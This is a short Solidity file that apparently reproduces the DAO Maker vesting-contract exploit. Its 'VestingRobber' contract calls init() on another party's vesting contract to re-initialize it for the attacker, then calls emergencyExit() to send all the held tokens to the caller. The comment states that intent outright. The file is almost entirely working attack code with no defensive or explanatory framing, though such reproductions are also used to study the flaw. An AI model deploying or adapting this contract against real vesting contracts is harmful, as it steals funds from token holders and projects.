// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

interface IVesting {
    function init(uint256 start, uint256[] calldata periods, uint256[] calldata percents, address token) external;
    function emergencyExit(address receiver) external;
}

/// DAO Maker: initializes somebody's vesting contract again, for itself, and leaves with all it holds.
contract VestingRobber {
    function rob(address vesting, address token) external {
        uint256[] memory periods = new uint256[](1);
        uint256[] memory percents = new uint256[](1);
        periods[0] = 5_702_400;
        percents[0] = 10_000;
        IVesting(vesting).init(block.timestamp + 1 days, periods, percents, token);
        IVesting(vesting).emergencyExit(msg.sender);
    }
}
